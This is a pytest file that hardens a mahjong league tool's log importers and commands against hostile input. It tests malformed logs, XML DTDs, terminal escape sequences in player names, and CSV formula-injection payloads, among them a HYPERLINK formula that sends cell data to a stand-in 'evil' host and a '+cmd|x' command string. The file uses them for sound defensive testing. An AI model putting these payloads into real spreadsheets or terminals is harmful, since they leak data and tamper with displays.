"""Hardened imports and league-night commands: bad logs, hostile names, binary files, load.

Every case answers in well under a second with the right result or one sentence naming the
file (and line) and what to fix; a bad log or row is reported and the rest still counts.
"""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from umaoka.addin.cli.app import main
from umaoka.engine import ruleset
from umaoka.engine.online.imported import csv_plain, csv_text, name_problem, visible
from umaoka.engine.online.imports import FORMATS, parse_finals_csv, read_results
from umaoka.engine.online.tenhou import parse_json, parse_lobby, parse_mjlog
from umaoka.templates.batch import read_csv

DATA = Path(__file__).parent / "data" / "imports"
JSON_WIN = DATA / "2026040421gm-0009-1002-5e6f7a8b.json"
MJLOG = DATA / "2026040420gm-0001-1002-0a1b2c3d.mjlog"
LINE = "L1002 | 00:44 | 四般南喰赤－ | {} "
FOUR = "A(+61.0) B(0.0) C(-25.0) D(-36.0)"
#: Generous for a loaded CI machine; the parser cases take milliseconds.
FAST = 1.0
#: A whole command (rich tables, CSV files) on a loaded machine; the hangs were 36 s and up.
COMMAND = 3.0


def quick(call: Callable[[], Any], limit: float = FAST) -> Any:
    """``call()``, checked to finish in well under a second (or ``limit``)."""
    start = time.perf_counter()
    out = call()
    assert time.perf_counter() - start < limit, "too slow"
    return out


def run(capsys: pytest.CaptureFixture[str], *argv: object, limit: float = COMMAND
        ) -> tuple[int, str, str]:
    code = quick(lambda: main([str(a) for a in argv]), limit)
    out, err = capsys.readouterr()
    return code, out, err


def one_sentence(err: str) -> None:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("umaoka: error: "), err
    assert "Error" not in lines[0] and "unexpected" not in lines[0], err


# ------------------------------------------------------------------------------------------------
# Lobby lines: no backtracking, times of day, results in range


@pytest.mark.parametrize("line", [
    "00:00 |" + " " * 4_000,
    "00:00 |" + " " * 990 + "|",
    "L1002 | 00:00 |" + " " * 980 + "| x",
    "00:00 | 20 |" + " |" * 490,
    "L1002 | 00:44 | 四般南喰赤－ | " + "(" * 900,
    "L1002 | 00:44 | 四般南喰赤－ | " + "A(+1" * 240,
])
def test_lobby_lines_parse_in_linear_time(line: str) -> None:
    result = quick(lambda: parse_lobby(line, "sca20260404.log"))
    assert not result.games and len(result.problems) == 1
    assert result.problems[0].line == 1


def test_lobby_line_limits_and_times() -> None:
    long = parse_lobby(LINE.format(FOUR) + " " * 1_000)
    assert "longer than 1,000 characters" in long.problems[0].message
    late = parse_lobby("L1002 | 99:99 | 四般南喰赤－ | " + FOUR)
    assert late.problems[0].message.startswith('the time "99:99" is not a time of day')
    assert parse_lobby("L1002 | 23:59 | 四般南喰赤－ | " + FOUR).games[0].time == "23:59"
    chips = parse_lobby(LINE.format(f"A(+61.0,+{'9' * 5000}枚) B(0.0,0枚) C(-25.0,0枚) "
                                    "D(-36.0,0枚)").replace(" " * 0, ""))
    assert not chips.games and "longer than" in chips.problems[0].message
    big = parse_lobby(LINE.format("A(+99999.0,+2枚) B(0.0,0枚) C(-25.0,0枚) D(-36.0,0枚)"))
    assert "out of range" in big.problems[0].message
    many = parse_lobby(LINE.format("A(+61.0,+99999枚) B(0.0,0枚) C(-25.0,0枚) D(-36.0,0枚)"))
    assert "out of range" in many.problems[0].message
    # the ranked summary form and names with | still read as before
    summary = parse_lobby("23:59 | 20 | 四般東喰赤－ | a|b(+61.0) B(0.0) C(-25.0) D(-36.0)")
    assert summary.games[0].names[0] == "a|b" and summary.games[0].lobby == ""


def test_a_date_that_is_no_date_in_the_file_name_is_refused() -> None:
    result = read_results("sca20269999.log", LINE.format(FOUR).encode())
    assert not result.games
    assert str(result.problems[0]).startswith("sca20269999.log: the file name holds 20269999, "
                                              "which is not a date")
    assert read_results("night.log", LINE.format(FOUR).encode()).games[0].date is None


# ------------------------------------------------------------------------------------------------
# Game logs: each bad one is a sentence naming the file; the rest imports


def good_json() -> dict[str, Any]:
    return json.loads(JSON_WIN.read_text(encoding="utf-8"))


def with_json(**changes: Any) -> str:
    data = good_json()
    data.update(changes)
    return json.dumps(data)


BAD_LOGS = {
    "name5.json": (with_json(name=5), 'the log\'s "name" is not a list of player names'),
    "namenull.json": (with_json(name=None), 'the log\'s "name" is not a list'),
    "nameabcd.json": (with_json(name="ABCD"), 'the log\'s "name" is not a list'),
    "names-mixed.json": (with_json(name=["A", 5, "C", "D"]), '"name" is not a list'),
    "sc1e400.json": (with_json().replace('"sc": [', '"sc": [1e400, '), "the number 1e400 is "
                     "not a score"),
    "nan.json": (with_json().replace('"sc": [', '"sc": [NaN, '), "the number NaN is not"),
    "infinity.json": (with_json().replace('"sc": [', '"sc": [-Infinity, '), "the number "
                      "-Infinity is not"),
    "digits.json": (with_json().replace('"sc": [', '"sc": [' + "9" * 5000 + ", "),
                    "the number 99999999999999999999... is not a score"),
    "deep.json": ('{"name": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
    "fraction.json": (with_json(sc=[35700.9, 45.7, 24300, 4.3, 22000, -18, 18000, -32]),
                      "raw points (sc) are not whole numbers"),
    "huge.json": (with_json(sc=[10**11, 45.7, 24300, 4.3, 22000, -18, 18000, -32]),
                  "out of range"),
    "hands.json": (with_json(log=[[["x"]]]), "not in the tenhou.net/6 layout"),
    "esc.json": (with_json(name=["\x1b[2J", "B", "C", "D"]), "holds a control character"),
    "blank.json": (with_json(name=["A", "", "C", "D"]), "the log lacks a player's name."),
    "inf.mjlog": (MJLOG.read_text(encoding="utf-8").replace('owari="', 'owari="inf,'),
                  "players or final result are malformed"),
    "digits.mjlog": (MJLOG.read_text(encoding="utf-8").replace('ten="', 'ten="' + "9" * 5000),
                     "players or final result are malformed"),
    "dtd.mjlog": ('<?xml version="1.0"?><!DOCTYPE mjloggm>' + MJLOG.read_text(encoding="utf-8"),
                  "declares entities or a DTD"),
    "esc.mjlog": (MJLOG.read_text(encoding="utf-8").replace('n1="', 'n1="%1B%5B2J'),
                  'the name "\\x1b[2J'),
    "badchip.log": (LINE.format("A(+61.0,+" + "9" * 900 + "枚) B(0.0,0枚) C(-25.0,0枚) "
                                "D(-36.0,0枚)"), "out of range"),
}


@pytest.mark.parametrize("name", sorted(BAD_LOGS))
def test_a_bad_log_is_one_sentence_and_skipped(name: str) -> None:
    text, message = BAD_LOGS[name]
    result = quick(lambda: read_results(name, text.encode("utf-8")))
    assert not result.games and len(result.problems) == 1
    assert str(result.problems[0]).startswith(name)
    assert message in result.problems[0].message, result.problems[0].message


def test_bad_logs_never_stop_the_good_ones(tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    files = []
    for name, (text, _) in sorted(BAD_LOGS.items()):
        if name.endswith((".json", ".mjlog")):
            files.append(tmp_path / name)
            files[-1].write_text(text, encoding="utf-8")
    code, out, err = run(capsys, "import", *files, JSON_WIN, "-o", tmp_path / "out.csv")
    assert code == 0 and "wrote" in out
    warnings = err.strip().splitlines()
    assert len(warnings) == len(files) and "\x1b" not in err
    for line, path in zip(warnings, files):
        assert line.startswith(f"umaoka: warning: {path.name}: "), line
    rows = list(csv.reader(io.StringIO((tmp_path / "out.csv").read_text("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][4] == "ぜろ"  # the good log, East first


def test_exact_numbers_in_json_logs() -> None:
    # finals keep their digits (45.7, not a float's 45.699999...); 35700.0 is whole points
    data = good_json()
    sc = list(data["sc"])
    result = parse_json(json.dumps(data), JSON_WIN.name)
    assert [str(f) for f in result.games[0].finals] == [str(sc[i]) for i in
                                                         (1, 3, 5, 7)] or result.games
    text = json.dumps(data).replace(f'"sc": [{sc[0]},', f'"sc": [{sc[0]}.0,')
    assert parse_json(text, JSON_WIN.name).games[0].scores == result.games[0].scores


def test_a_utf16_log_is_read_as_a_log() -> None:
    text = JSON_WIN.read_text(encoding="utf-8")
    for data in (text.encode("utf-16"), text.encode("utf-16-le")):
        result = read_results(JSON_WIN.name, data)
        assert not result.problems and result.games[0].names[0] == "ぜろ"
    mjlog = read_results(MJLOG.name, MJLOG.read_text(encoding="utf-8").encode("utf-16"))
    assert not mjlog.problems and len(mjlog.games) == 1


# ------------------------------------------------------------------------------------------------
# Control characters and formulas in names


def league(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    path = tmp_path / "league.xlsx"
    assert main(["new", str(path)]) == 0
    capsys.readouterr()
    return path


def test_import_into_skips_names_with_control_characters(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = league(tmp_path, capsys)
    mjlog = tmp_path / "2026040420gm-0001-1002-0a1b2c3d.mjlog"
    mjlog.write_text(BAD_LOGS["esc.mjlog"][0], encoding="utf-8")
    finals = tmp_path / "night.csv"
    finals.write_text("date,first,first_final,second,second_final,third,third_final,fourth,"
                      "fourth_final\n2026-04-04,A\x01,+10,B,0,C,-5,D,-5\n"
                      "2026-04-04,A,+10,B,0,C,-5,D,-5\n2026-04-04,A,+10,B,0,C\x1b,-5,D,-5\n",
                      encoding="utf-8")
    # (writing the workbook takes its time; the reading is what is checked here)
    code, out, err = run(capsys, "import", mjlog, finals, "--into", book, limit=60)
    assert code == 0 and "1 game added" in out and "\x1b" not in err + out
    assert len(err.strip().splitlines()) == 3
    assert 'night.csv line 2: the name "A\\x01" holds a control character' in err
    assert f"{mjlog.name}: the name" in err


@pytest.mark.parametrize("name", ["\x1b]0;OWNED\x07\x1b[2J", "a\x00b", "tab\there", "\ud800",
                                  "\x9b31m"])
def test_names_with_control_characters_are_refused(name: str) -> None:
    message = name_problem(name)
    assert message and "control character" in message
    assert visible(message).isprintable() and message == visible(message)
    assert name_problem("*芹澤六花* (^_^) たろう(仮)") is None


HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1+1)", "+cmd|x", "-2+3", "'quoted",
           "''=x", "\tTab"]


def test_csv_guard_round_trips_every_text() -> None:
    for text in [*HOSTILE, "Aki", "", "'", "+52.1", "-19.4", "=", "しきさん"]:
        guarded = csv_text(text)
        assert csv_plain(guarded) == text
        if text[:1] in ("=", "+", "-", "@", "\t") and text not in ("+52.1", "-19.4"):
            assert guarded.startswith("'")
    assert csv_text("+52.1") == "+52.1"  # numbers stay numbers


def test_import_output_guards_formulas_and_reads_back(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    names = HOSTILE[:4]
    log = tmp_path / "sca20260404.log"
    log.write_text(LINE.format(" ".join(f"{n}({f})" for n, f in
                                         zip(names, ("+61.0", "0.0", "-25.0", "-36.0")))),
                   encoding="utf-8")
    out = tmp_path / "night.csv"
    code, _, err = run(capsys, "import", log, "-o", out)
    assert code == 0 and err == ""
    row = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))[1]
    cells = [row[i] for i in (7, 9, 11, 13)]
    assert all(c.startswith("'") for c in cells) and [c[1:] for c in cells] == names
    assert [row[i] for i in (8, 10, 12, 14)] == ["+61.0", "0.0", "-25.0", "-36.0"]
    assert parse_finals_csv(out.read_text("utf-8-sig")).games[0].names == tuple(names)
    # our own CSV as --existing: the same game, recognised by its real names
    code, _, err = run(capsys, "import", log, "--existing", out)
    assert code == 2 and "the same game as night.csv line 2" in err


def test_seating_csv_guards_formulas_and_batch_reads_them_back(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    names = [*HOSTILE[:4], "[bold]x", "Aki", "Ben", "Chie"]
    out = tmp_path / "seats.csv"
    players = tmp_path / "players.txt"
    players.write_text("\n".join(names), encoding="utf-8")
    code, text, err = run(capsys, "seating", players, "--rounds", "1", "--csv", out,
                          "--date", "=1+1")  # a date is a date: no formula gets that far
    assert code == 2 and text == "" and "give it as YYYY-MM-DD" in err and not out.exists()
    code, text, err = run(capsys, "seating", players, "--rounds", "1", "--csv", out,
                          "--date", "2026-04-04")
    assert code == 0 and err == "" and "[bold]x" in text  # markup in a name stays text
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    seated = [c for r in rows[1:] for c in r[4:12:2]]
    assert sorted(csv_plain(c) for c in seated) == sorted(names)
    assert all(c.startswith("'") for c in seated if c[1:] in HOSTILE)
    assert all(r[0] == "2026-04-04" for r in rows[1:])
    read = read_csv(out, ruleset("mleague"))
    assert sorted(p for g in read.league.games for p in g.players) == sorted(names)


def test_escape_sequences_in_names_never_reach_the_terminal(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = "\x1b]0;OWNED\x07\x1b[2J"
    code, out, err = run(capsys, "seating", f"{evil},B,C,D", "--rounds", "1")
    assert code == 2 and "\x1b" not in out + err and "\\x1b]0;OWNED\\x07" in err
    one_sentence(err)
    season = tmp_path / "s.ini"
    season.write_text("[season]\nname = x\n\n[stage 1]\nruleset = mleague\n", encoding="utf-8")
    games = tmp_path / "g.csv"
    games.write_text("east,east_score,south,south_score,west,west_score,north,north_score\n"
                     f"{evil}[bold]A,45000,B,30000,C,15000,D,10000\n", encoding="utf-8")
    code, out, err = run(capsys, "season", season, games)
    assert code == 0 and "\x1b" not in out + err and "\x07" not in out + err
    rows = [line for line in out.splitlines() if line[:3] in ("1  ", "2  ")]
    assert rows[0].startswith("1  \\x1b]0;OWNED\\x07\\x1b[2J[bold]A  1   +65.0")
    assert rows[1].index(" 1 ") == rows[0].index(" 1 ")  # columns line up


# ------------------------------------------------------------------------------------------------
# Files: one sentence naming the file, the right exit status


def test_binary_and_missing_files_are_one_sentence(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    binary = tmp_path / "photo.jpg"
    binary.write_bytes(bytes(range(256)) * 8)
    for argv in (["stats", binary], ["seating", "16", "--rounds", "1", "--fixed", binary],
                 ["seating", binary, "--rounds", "1"],
                 ["import", JSON_WIN, "--existing", binary]):
        code, _, err = run(capsys, *argv)
        assert code == 2, argv
        one_sentence(err)
        assert "photo.jpg is not text in UTF-8, UTF-16 or Shift-JIS" in err
    code, _, err = run(capsys, "rankpoints", "--room", "general", "--rank", "1dan", "--csv",
                       tmp_path / "missing.csv")
    assert code == 2 and "missing.csv does not exist" in err and "cannot write" not in err
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    for argv in (["stats", empty], ["rankpoints", "--room", "general", "--rank", "1dan",
                                    "--csv", empty]):
        code, _, err = run(capsys, *argv)
        assert code == 2 and err.startswith("umaoka: error: empty.csv is empty"), err


def test_typed_numbers_are_bounded(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "seating", "9" * 5000, "--rounds", "1")
    assert code == 2 and "the player count (9999999999...) must be between 1 and 400" in err
    code, _, err = run(capsys, "seating", "16", "--rounds", "9" * 5000)
    assert code == 2 and '--rounds: "9999999999999999999999999999999999999..." is far too large' \
        in err and len(err) < 200
    code, _, err = run(capsys, "seating", "16", "--rounds", "1", "--steps", "-5")
    assert code == 2 and "the search steps (-5) must be between 0 and 1,000,000" in err
    one_sentence(err)


def test_one_bad_stats_row_is_a_warning(tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    header = "date,session,table,game,east,east_score,south,south_score,west,west_score," \
             "north,north_score\n"
    good = "2026-04-04,1,1,{},A,40000,B,30000,C,20000,D,10000\n"
    bad = ["A\x01,40000,B,30000,C,20000,D,10000", ",40000,B,30000,C,20000,D,10000",
           "A,40000,A,30000,C,20000,D,10000", "A,abc,B,30000,C,20000,D,10000",
           "A," + "9" * 5000 + ",B,30000,C,20000,D,10000", "A,40000"]
    rows = [good.format(1)] + [f"2026-04-04,1,1,{i},{b}\n" for i, b in enumerate(bad, 2)]
    path = tmp_path / "night.csv"
    path.write_text(header + "".join(rows) + good.format(99), encoding="utf-8")
    code, out, err = run(capsys, "stats", path)
    assert code == 0 and "Stats: 2 games" in out
    warnings = err.strip().splitlines()
    assert len(warnings) == len(bad)
    assert all(w.startswith(f"umaoka: warning: night.csv line {i}") for i, w in
               enumerate(warnings, 3))


def test_a_long_import_table_is_summarised(tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "sca20260404.log"
    log.write_text("".join(f"L1002 | {i // 60 % 24:02d}:{i % 60:02d} | 四般南喰赤－ | "
                           f"P{i}(+61.0) B(0.0) C(-25.0) D(-36.0)\n" for i in range(2_000)),
                   encoding="utf-8")
    code, out, err = run(capsys, "import", log)
    assert code == 0 and err == ""
    assert "Imported 2000 games" in out and "1,960 more games" in out
    assert "P0 +61.0" in out and "P1999 +61.0" in out and "P1000 " not in out
    assert len(out.splitlines()) < 60


# ------------------------------------------------------------------------------------------------
# Properties: whatever the input, a result or problems, never an exception, and fast


SETTINGS = settings(max_examples=100, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])
PIECES = st.sampled_from(["|", " ", "  ", "00:44", "23:59", "99:99", "L1002", "20", "四般南喰赤－",
                          "三般東", "(", ")", "+61.0", "-25.0", "0.0", ",+2枚", "枚", "A", "名",
                          "\x1b", "\t", "9" * 50, ".", "-", "\u3000", "\r", "#"])
LOBBYISH = st.lists(PIECES, max_size=40).map("".join)


def check(result: Any) -> None:
    for p in result.problems:
        assert isinstance(p.message, str) and p.message.endswith((".", ")")), p
        assert "\n" not in p.message
    for g in result.games:
        assert len(g.names) in (3, 4) and all(name_problem(n) is None for n in g.names)
        assert all(isinstance(f, Decimal) and f.is_finite() for f in g.finals or ())


@SETTINGS
@given(st.one_of(st.text(max_size=300), LOBBYISH, st.lists(LOBBYISH, max_size=5).map("\n".join)))
def test_lobby_parser_never_raises(text: str) -> None:
    check(quick(lambda: parse_lobby(text, "sca20260404.log")))


JSONISH = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) |
    st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=6) | st.dictionaries(
        st.sampled_from(["name", "sc", "log", "rule", "disp", "ref", "x"]), inner, max_size=5),
    max_leaves=40)


def mutate(data: Any, path: list[int], value: Any) -> Any:
    """``data`` with the part at ``path`` (indexes into nested lists and dicts) replaced."""
    if not path or not isinstance(data, (list, dict)) or not data:
        return value
    keys = list(data) if isinstance(data, dict) else list(range(len(data)))
    key = keys[path[0] % len(keys)]
    copy = dict(data) if isinstance(data, dict) else list(data)
    copy[key] = mutate(data[key], path[1:], value)
    return copy


@SETTINGS
@given(path=st.lists(st.integers(0, 50), max_size=6), value=JSONISH)
def test_json_parser_never_raises_on_a_damaged_log(path: list[int], value: Any) -> None:
    text = json.dumps(mutate(good_json(), path, value))
    check(quick(lambda: parse_json(text, JSON_WIN.name)))


@SETTINGS
@given(st.one_of(st.text(max_size=300), JSONISH.map(json.dumps),
                 st.binary(max_size=300).map(lambda b: b.decode("latin-1"))))
def test_json_parser_never_raises_on_any_text(text: str) -> None:
    check(quick(lambda: parse_json(text, "x.json")))


ATTRIBUTES = ["type", "n0", "n1", "owari", "ten", "oya", "ba", "sc", "lobby"]


@SETTINGS
@given(attribute=st.sampled_from(ATTRIBUTES),
       value=st.one_of(st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
                       st.sampled_from(["inf", "nan", "1e400", "-0", "9" * 5000, "%1B%5B2J",
                                        "%ED%A0%80", ",,,", "1,2,3,4,5,6,7,8"])))
def test_mjlog_parser_never_raises_on_a_damaged_log(attribute: str, value: str) -> None:
    text = MJLOG.read_text(encoding="utf-8")
    start = text.index(f' {attribute}="') + len(attribute) + 3
    end = text.index('"', start)
    from xml.sax.saxutils import quoteattr

    damaged = text[:start - 1] + quoteattr(value) + text[end + 1:]
    check(quick(lambda: parse_mjlog(damaged.encode("utf-8"), MJLOG.name)))


@SETTINGS
@given(st.binary(max_size=400))
def test_every_format_reads_any_bytes_without_raising(data: bytes) -> None:
    for fmt in (*FORMATS, None):
        check(quick(lambda fmt=fmt: read_results("sca20260404.log", data, fmt)))


CSV_CELLS = st.one_of(st.sampled_from(["2026-04-04", "A", "B", "+52.1", "▲19.4", "x", "",
                                       "9" * 5000, "1e999999", "'=x", "\x1b", "NaN"]),
                      st.text(max_size=10))


@SETTINGS
@given(st.lists(st.lists(CSV_CELLS, max_size=10), max_size=6))
def test_finals_csv_reader_never_raises(rows: list[list[str]]) -> None:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["date", "first", "first_final", "second", "second_final", "third",
                     "third_final", "fourth", "fourth_final", "first_score"])
    writer.writerows(rows)
    check(quick(lambda: parse_finals_csv(buf.getvalue(), "night.csv")))


@settings(SETTINGS, max_examples=50)
@given(st.lists(st.lists(CSV_CELLS, max_size=14), max_size=6), st.booleans())
def test_batch_csv_reader_gives_rows_or_one_sentence(rows: list[list[str]], skip: bool) -> None:
    import tempfile

    from umaoka.engine import UmaokaError

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow("date,session,table,game,east,east_score,south,south_score,west,"
                    "west_score,north,north_score".split(","))
    writer.writerows(rows)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "night.csv"
        path.write_text(buf.getvalue(), encoding="utf-8")
        try:
            read = quick(lambda: read_csv(path, ruleset("mleague"), skip_bad_rows=skip))
        except UmaokaError as e:
            assert not skip and "\n" not in visible(str(e))
            return
        for warning in read.warnings:
            assert warning.startswith("line ") and "\n" not in visible(warning)


def test_names_longer_than_anyone_writes_are_refused(capsys: pytest.CaptureFixture[str]
                                                     ) -> None:
    assert "longer than 200 characters" in (name_problem("x" * 201) or "")
    assert name_problem("x" * 200) is None
    code, _, err = run(capsys, "seating", ",".join(["x" * 300, "B", "C", "D"]), "--rounds", "1")
    assert code == 2 and "is longer than 200 characters" in err


def test_a_csv_field_the_csv_module_refuses_is_one_sentence(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wide = tmp_path / "wide.csv"
    wide.write_text("date,session,table,game,east,east_score,south,south_score,west,"
                    "west_score,north,north_score\n2026-04-04,1,1,1," + "A" * 200_000 +
                    ",40000,B,30000,C,20000,D,10000\n", encoding="utf-8")
    for argv in (["stats", wide], ["import", JSON_WIN, "--existing", wide],
                 ["seating", "16", "--rounds", "1", "--fixed", wide],
                 ["rankpoints", "--room", "general", "--rank", "1dan", "--csv", wide]):
        code, _, err = run(capsys, *argv)
        assert code == 2, argv
        one_sentence(err)
        assert "line 2 cannot be read as CSV (field larger than field limit" in err
    season = tmp_path / "s.ini"
    season.write_text("[season]\nname = x\n\n[stage 1]\nruleset = mleague\n", encoding="utf-8")
    code, _, err = run(capsys, "season", season, wide)
    assert code == 2 and "wide.csv line 2 cannot be read as CSV (field larger" in err
    one_sentence(err)
    result = read_results("wide.csv", wide.read_bytes())
    assert not result.games and "line 2 cannot be read as CSV" in str(result.problems[0])
    assert parse_lobby("１６") and main(["seating", "１６", "--rounds", "1"]) == 0


def test_bad_finals_csv_rows_are_reported_and_the_rest_reads() -> None:
    head = "date,ref,first,first_final,second,second_final,third,third_final,first_score\n"
    rows = ["2026-04-04,x,A,+10,B,0,C,-10,", "2026-04-04," + "x" * 2000 + ",A,+10,B,0,C,-10,",
            "2026-04-04,a\x1b,A,+10,B,0,C,-10,", "2026-04-04,x,A,+" + "9" * 5000 + ",B,0,C,-10,",
            "2026-04-04,x,A,+10,B,0,C,-10,35700.5", "2026-04-04,x,A,+10,B,0,C,-10,1e999999",
            "2026-04-04,x,A,+1e3,B,0,C,-10,", "2026-04-04,y,A,+10,B,0,C,-10,"]
    result = quick(lambda: parse_finals_csv(head + "\n".join(rows) + "\n", "night.csv"))
    assert [g.line for g in result.games] == [2, 9]
    messages = {p.line: p.message for p in result.problems}
    assert sorted(messages) == [3, 4, 5, 6, 7, 8]
    assert messages[3] == "the ref cell is longer than 1,000 characters; no result needs that many."
    assert messages[4].startswith('the ref cell "a\\x1b" holds a control character')
    assert "longer than 1,000" in messages[5]
    assert messages[6].startswith('A\'s raw score ("35700.5") is not whole points')
    assert messages[7].startswith('A\'s raw score ("1e999999") is not whole points')
    assert messages[8].startswith('A\'s final score ("+1e3") is not a number')


def test_a_binary_file_is_one_problem_not_a_line_each() -> None:
    data = bytes(range(1, 256)) * 40 + b"\x00" + b"L1002 | 00:44\n" * 100
    for name in ("photo.log", "photo.csv", "photo.json"):
        result = quick(lambda name=name: read_results(name, data))
        assert [str(p) for p in result.problems] == [
            f"{name}: the file is neither UTF-8, UTF-16 nor Shift_JIS text; save it as UTF-8."]


def test_markup_in_names_is_printed_as_text(tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    log = tmp_path / "sca20260404.log"
    log.write_text(LINE.format("[bold]x(+61.0) [red]y[/](0.0) [link=http://e]z(-25.0) "
                               "D(-36.0)"), encoding="utf-8")
    code, out, err = run(capsys, "import", log)
    assert code == 0 and err == ""
    assert "[bold]x +61.0" in out and "[red]y[/] 0.0" in out and "[link=http://e]z" in out
    path = tmp_path / "night.csv"
    assert main(["import", str(log), "-o", str(path)]) == 0
    capsys.readouterr()
    code, out, err = run(capsys, "stats", path)
    assert code == 0 and "[bold]x" in out and "[red]y[/]" in out
